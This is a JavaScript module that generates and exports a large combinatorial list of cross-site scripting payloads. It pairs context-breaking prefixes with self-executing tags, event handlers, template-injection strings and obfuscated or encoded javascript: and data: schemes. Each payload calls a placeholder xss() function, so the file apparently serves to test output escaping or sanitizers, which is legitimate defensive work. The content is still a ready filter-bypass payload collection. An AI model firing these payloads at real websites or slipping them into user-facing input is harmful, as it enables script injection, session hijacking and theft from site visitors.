// Texts that would run a script where one place of the output escapes too little: each calls `xss()`.
// Made of parts, so that every way out of a context meets every way to run.

// Out of an attribute, an element whose content is no markup, a comment, a script's text.
const EXITS = ["", "\">", "'>", "\"'>", "</title>", "</textarea>", "</style>", "</script>", "</noscript>", "-->", "]]>", "</a></p>", "\\\">"];

// What runs by itself, or as soon as it is parsed.
const RUNS = [
  "<script>xss()</script>",
  "<ScRiPt>xss()</sCrIpT>",
  "<script/x>xss()</script>",
  "<script src=data:text/javascript,xss()></script>",
  "<img src=x onerror=xss()>",
  "<img src=x onerror='xss()'>",
  "<img/src=x/onerror=xss()>",
  "<IMG SRC=x OnErRoR=xss()>",
  "<image src=x onerror=xss()>",
  "<svg onload=xss()>",
  "<svg/onload=xss()>",
  "<svg><script>xss()</script></svg>",
  "<svg><animate onbegin=xss() attributeName=x dur=1s>",
  "<svg><style><img src=x onerror=xss()></style></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=xss()>",
  "<iframe src=javascript:parent.xss()></iframe>",
  "<iframe srcdoc='<script>parent.xss()</script>'></iframe>",
  "<object data=data:text/html,x onerror=xss()></object>",
  "<embed src=javascript:xss()>",
  "<video><source onerror=xss()></video>",
  "<audio src=x onerror=xss()></audio>",
  "<details open ontoggle=xss()>x</details>",
  "<input autofocus onfocus=xss()>",
  "<body onload=xss()>",
  "<marquee onstart=xss()>x</marquee>",
  "<style onload=xss()></style>",
  "<link rel=stylesheet href=data:text/css, onload=xss()>",
  "<meta http-equiv=refresh content='0;url=javascript:xss()'>",
  "<base href=javascript:xss()//>",
  "<template><script>xss()</script></template><script>xss()</script>",
  "<noscript><p title=\"</noscript><img src=x onerror=xss()>\">",
  "<a href=javascript:xss() autofocus onfocus=xss()>x</a>",
];

// What would run within an attribute, a script, a template or an address.
const INSIDE = [
  "\" onmouseover=xss() autofocus onfocus=xss() x=\"",
  "' onmouseover=xss() autofocus onfocus=xss() x='",
  "x onmouseover=xss() autofocus onfocus=xss()",
  "` onerror=xss() x=`",
  "\" onerror=xss() src=x onload=xss() \"",
  "\";xss();//",
  "';xss();//",
  "\\\";xss();//",
  "\\';xss();//",
  "`;xss();//",
  "${xss()}",
  "#{xss()}",
  "{{xss()}}",
  "{{ constructor.constructor('xss()')() }}",
  "{% raw %}<script>xss()</script>{% endraw %}",
  "{{ \"<script>xss()</script>\" | safe }}",
  "<!--<script>xss()//-->",
  "<!--><script>xss()</script>-->",
  "<![CDATA[<script>xss()</script>]]>",
  "<?xml version=\"1.0\"?><script>xss()</script>",
  "\u2028xss()//",
  "\u2029xss()//",
  "&lt;script&gt;xss()&lt;/script&gt;",
  "&#60;script&#62;xss()&#60;/script&#62;",
  "&#x3c;img src=x onerror=xss()&#x3e;",
  "&amp;lt;script&amp;gt;xss()&amp;lt;/script&amp;gt;",
  "\\u003cscript\\u003exss()\\u003c/script\\u003e",
  "%3Cscript%3Exss()%3C/script%3E",
  "\uff1cscript\uff1exss()\uff1c/script\uff1e",
  "<<script>xss()//<</script>",
  "<scr<script>ipt>xss()</scr</script>ipt>",
  "<\tscript>xss()</script>",
  "< script>xss()</ script>",
  "<x onclick=xss() tabindex=1 autofocus onfocus=xss()>",
  "{\"__proto__\":{\"innerHTML\":\"<img src=x onerror=xss()>\"}}",
  "\"}</script><script>xss()</script>",
  "expression(xss())",
  "url(javascript:xss())",
  "@import 'javascript:xss()';",
  "*/xss()/*",
];

const SCHEMES = [
  "javascript:xss()",
  "JaVaScRiPt:xss()",
  "java\tscript:xss()",
  " javascript:xss()",
  "javascript&colon;xss()",
  "javascript&#58;xss()",
  "&#106;avascript:xss()",
  "&#x6A;avascript:xss()",
  "java&Tab;script:xss()",
  "java&NewLine;script:xss()",
  "\\javascript:xss()",
  "javascript://%0axss()",
  "//javascript:xss()",
  "data:text/html,<script>xss()</script>",
  "data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==",
  "vbscript:xss()",
  "view-source:javascript:xss()",
  "blob:javascript:xss()",
  "feed:javascript:xss()",
  "jar:javascript:xss()!/",
  "javascript\u003axss()",
  "\u200bjavascript:xss()",
];

const ran = EXITS.flatMap((exit) => RUNS.map((run) => `${exit}${run}`));
const inside = ["", "\"", "</script>"].flatMap((exit) => INSIDE.map((run) => `${exit}${run}`));

// Texts for any field.
export const payloads = [...new Set([...ran, ...inside, ...SCHEMES])];

// Targets of links.
export const schemes = SCHEMES;
